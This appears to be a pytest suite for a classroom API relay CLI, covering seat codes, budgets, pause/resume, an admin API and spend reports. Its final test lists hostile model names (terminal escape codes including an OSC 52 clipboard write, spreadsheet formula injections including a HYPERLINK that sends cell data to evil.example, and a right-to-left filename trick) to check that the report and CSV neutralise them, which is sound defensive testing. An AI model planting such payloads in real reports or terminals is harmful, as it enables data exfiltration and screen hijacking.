"""Every command of ``python -m relay``, and changes made while the relay serves taking effect at once.

Most run as the command's ``main()`` in this process (a process each would cost more than the test);
those marked ``process=True`` run as ``python -m relay``, so the command itself is covered too.
"""
from __future__ import annotations

import csv
import json
import re
import stat

import pytest
import requests

from helpers.practice import PracticeServer

from relay_support import CANARY, Relay, add_seats, chat_body, cli, leaks, relay_env

TIMEOUT = 10


@pytest.fixture(scope="module")
def upstream():
    with PracticeServer(latency=0, key=CANARY) as srv:
        yield srv


def test_seats_add_json_prints_exactly_names_codes_and_budgets(tmp_path):
    db = tmp_path / "room.db"
    done = cli("seats", "add", "--count", 3, "--budget", 0.25, "--prefix", "lab", "--json", db=db, process=True)
    seats = json.loads(done.stdout)
    assert [list(s) for s in seats] == [["name", "code", "budget_usd"]] * 3
    assert [s["name"] for s in seats] == ["lab-01", "lab-02", "lab-03"]
    assert all(s["budget_usd"] == 0.25 and re.fullmatch(r"relay-(?:[a-z2-9]{5}-){3}[a-z2-9]{5}", s["code"])
               for s in seats)
    assert len({s["code"] for s in seats}) == 3
    assert not list(tmp_path.glob("*handout*"))  # --json prints and writes nothing else
    raw = db.read_bytes() + b"".join(p.read_bytes() for p in tmp_path.glob("room.db-*"))
    assert not any(s["code"].encode() in raw for s in seats)  # only hashes are stored
    more = add_seats(db, 2, 0.25, prefix="lab")
    assert [s["name"] for s in more] == ["lab-04", "lab-05"]


def test_seats_add_prints_a_table_and_writes_a_handout(tmp_path):
    db = tmp_path / "room.db"
    done = cli("seats", "add", "--count", 2, "--budget", 0.5, "--url", "https://relay.example.org/v1", db=db)
    codes = re.findall(r"relay-[a-z2-9-]{23}", done.stdout)
    assert len(codes) == 2 and "seat-01" in done.stdout and "$0.50" in done.stdout
    handout = tmp_path / "room-handout.md"
    assert stat.S_IMODE(handout.stat().st_mode) == 0o600
    text = handout.read_text()
    assert "AIML_API_BASE=https://relay.example.org/v1" in text and "AIML_API_KEY=" in text
    assert all(code in text for code in codes) and "seat-02" in text
    assert not leaks(text + done.stdout + done.stderr)  # the relay's key was in this command's environment


@pytest.mark.parametrize("args, says", [
    (("seats", "add", "--count", 1, "--budget", -1), "--budget"),
    (("seats", "add", "--count", 1, "--budget", 1, "--prefix", "bad/name"), "--prefix"),
])
def test_bad_seat_options_say_what_to_do(tmp_path, args, says):
    done = cli(*args, db=tmp_path / "room.db", check=False)
    assert done.returncode == 1 and says in done.stderr


def test_commands_on_a_missing_ledger_say_how_to_start(tmp_path):
    for args in (("seats", "list"), ("report",), ("seats", "pause-all")):
        done = cli(*args, db=tmp_path / "none.db", check=False, process=True)
        assert done.returncode == 1 and "seats add" in done.stderr
    assert not (tmp_path / "none.db").exists()


def test_serve_refuses_without_a_key_or_with_a_bad_price(tmp_path):
    import subprocess
    import sys

    env = relay_env()
    env.pop("AIML_API_KEY")
    base = [sys.executable, "-m", "relay", "serve", "--db", str(tmp_path / "r.db"), "--port", "0"]
    done = subprocess.run(base, cwd=tmp_path, env=env, capture_output=True, text=True, timeout=30)
    assert done.returncode == 2 and "AIML_API_KEY" in done.stderr and "never on the command line" in done.stderr
    done = subprocess.run(base + ["--price", "google/gemma-3-4b-it=cheap"], cwd=tmp_path, env=relay_env(),
                          capture_output=True, text=True, timeout=30)
    assert done.returncode == 2 and "MODEL=IN,OUT" in done.stderr
    done = subprocess.run(base, cwd=tmp_path, env=relay_env(RELAY_ADMIN_TOKEN="short"), capture_output=True,
                          text=True, timeout=30)
    assert done.returncode == 2 and "too short" in done.stderr


def test_pause_and_resume_while_serving_apply_to_the_next_call(upstream, tmp_path):
    db = tmp_path / "room.db"
    one, two = add_seats(db, 2, 1.0)

    def status(seat) -> int:
        return requests.post(relay.url + "/chat/completions", json=chat_body(max_tokens=8), timeout=TIMEOUT,
                             headers={"Authorization": f"Bearer {seat['code']}"}).status_code

    with Relay(db, upstream.base_url, env={"RELAY_ADMIN_TOKEN": ""}) as relay:
        assert status(one) == 200
        assert "Paused seat-01" in cli("seats", "pause", "seat-01", db=db, process=True).stdout
        assert status(one) == 403 and status(two) == 200
        cli("seats", "resume", "seat-01", db=db)
        assert status(one) == 200
        assert "Paused 2 seats" in cli("seats", "pause-all", db=db).stdout
        assert status(one) == 403 and status(two) == 403
        listed = json.loads(cli("seats", "list", "--json", db=db).stdout)
        assert [list(s) for s in listed] == [["name", "budget_usd", "spent_usd", "requests", "paused"]] * 2
        assert all(s["paused"] for s in listed) and listed[0]["requests"] == 4 and listed[0]["spent_usd"] > 0
        cli("seats", "resume-all", db=db)
        assert status(one) == 200 and status(two) == 200
        late = add_seats(db, 1, 1.0, prefix="late")[0]  # a seat added while serving works at once
        assert status(late) == 200
        missing = cli("seats", "pause", "seat-99", db=db, check=False)
        assert missing.returncode == 1 and "No seat named 'seat-99'" in missing.stderr
        # No RELAY_ADMIN_TOKEN: the relay made one, printed it once, and keeps only its hash.
        token = re.search(r"Admin token \(shown once[^)]*\): (\S+)", relay.output()).group(1)
        seats = requests.get(relay.root + "/admin/api/seats", headers={"Authorization": f"Bearer {token}"},
                             timeout=TIMEOUT)
        assert seats.status_code == 200 and [s["name"] for s in seats.json()["seats"]] == ["seat-01", "seat-02",
                                                                                            "late-01"]
        assert relay.output().count(token) == 1
        # The admin API takes the token as a bearer: one seat, then all.
        admin = {"Authorization": f"Bearer {token}"}
        paused = requests.post(relay.root + "/admin/api/seats/seat-02/pause", headers=admin, timeout=TIMEOUT)
        assert paused.json() == {"changed": 1, "paused": True, "seat": "seat-02"}
        assert status(two) == 403 and status(one) == 200
        assert requests.post(relay.root + "/admin/api/seats/seat-02/resume", headers=admin,
                             timeout=TIMEOUT).status_code == 200 and status(two) == 200
        assert requests.post(relay.root + "/admin/api/pause-all", headers=admin, timeout=TIMEOUT).json()["changed"] == 3
        assert status(one) == 403 and status(two) == 403
        requests.post(relay.root + "/admin/api/resume-all", headers=admin, timeout=TIMEOUT)
        assert status(one) == 200
        assert requests.post(relay.root + "/admin/api/seats/seat-99/pause", headers=admin,
                             timeout=TIMEOUT).status_code == 404
    raw = b"".join(p.read_bytes() for p in tmp_path.iterdir() if p.is_file())
    assert token.encode() not in raw
    table = cli("seats", "list", db=db).stdout
    assert "seat-01" in table and "active" in table


def test_report_by_seat_and_model_with_csv(upstream, tmp_path):
    db = tmp_path / "room.db"
    one, two = add_seats(db, 2, 1.0)
    with Relay(db, upstream.base_url) as relay:
        for seat, model in ((one, "google/gemma-3-4b-it"), (one, "google/gemma-3-12b-it"),
                            (two, "google/gemma-3-4b-it")):
            requests.post(relay.url + "/chat/completions", json=chat_body(model=model, max_tokens=8), timeout=TIMEOUT,
                          headers={"Authorization": f"Bearer {seat['code']}"})
        requests.post(relay.url + "/chat/completions", timeout=TIMEOUT,  # the upstream refuses a system role: 400
                      json={"model": "google/gemma-3-4b-it", "messages": [{"role": "system", "content": "x"}]},
                      headers={"Authorization": f"Bearer {two['code']}"})
    out = tmp_path / "spend.csv"
    done = cli("report", "--csv", out, db=db)
    assert "seat-01" in done.stdout and "google/gemma-3-12b-it" in done.stdout and "Total: $" in done.stdout
    rows = list(csv.DictReader(out.open()))
    assert list(rows[0]) == ["seat", "model", "requests", "errors", "prompt_tokens", "completion_tokens", "spent_usd"]
    by = {(r["seat"], r["model"]): r for r in rows}
    assert set(by) == {("seat-01", "google/gemma-3-4b-it"), ("seat-01", "google/gemma-3-12b-it"),
                       ("seat-02", "google/gemma-3-4b-it")}
    second = by[("seat-02", "google/gemma-3-4b-it")]
    assert second["requests"] == "2" and second["errors"] == "1"
    assert 0 < int(by[("seat-01", "google/gemma-3-4b-it")]["completion_tokens"]) <= 8  # max_tokens=8
    assert float(by[("seat-01", "google/gemma-3-12b-it")]["spent_usd"]) > 0


#: Model names a learner sent (each refused with a 400, yet recorded): terminal escapes, formulas, a quote game.
HOSTILE_MODELS = ["\x1b]52;c;aGVsbG8=\x07\x1b[2J\x1bc", '=HYPERLINK("http://evil.example/?d="&A1,"ok")', "+1+1",
                  "-2+3", "@SUM(A1)", "\t=1+2", "\r=1+2", "\n=1+2", 'a",=1+2,"b', "\u202egnp.exe"]


def test_the_report_and_its_csv_are_safe_to_open(tmp_path):
    """A model name with escape codes once cleared the instructor's screen (and could write the clipboard with
    OSC 52) when the report was printed; one starting with = landed in the CSV as a formula."""
    from relay.ledger import Ledger

    db = tmp_path / "room.db"
    add_seats(db, 1, 1.0)
    ledger = Ledger(db)
    try:
        for model in HOSTILE_MODELS:
            ledger.record_refusal(1, model, 400, f"400: no price for {model!r}")
    finally:
        ledger.close()
    out = tmp_path / "spend.csv"
    printed = cli("report", "--csv", out, db=db).stdout
    assert not [c for c in printed if not c.isprintable() and c != "\n"], "a control character was printed raw"
    assert "\\x1b]52;c;aGVsbG8=\\x07\\x1b[2J" in printed and "\\u202egnp.exe" in printed
    raw = out.read_bytes().decode("utf-8")
    assert not [c for c in raw.replace("\r\n", "") if not c.isprintable()], "a control character in the CSV"
    rows = list(csv.reader(out.open(encoding="utf-8", newline="")))
    assert rows[0][:2] == ["seat", "model"] and len(rows) == 1 + len(HOSTILE_MODELS)
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))], cells
    models = {row[1] for row in rows[1:]}
    assert {"'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"ok\")", "'+1+1", "'-2+3", "'@SUM(A1)", "\\x09=1+2",
            "\\x0d=1+2", "\\x0a=1+2", 'a",=1+2,"b'} <= models  # each whole in one cell, none runnable
    assert raw.splitlines()[1].startswith('"seat-01","')  # every cell quoted (OWASP: quotes cannot open a cell)
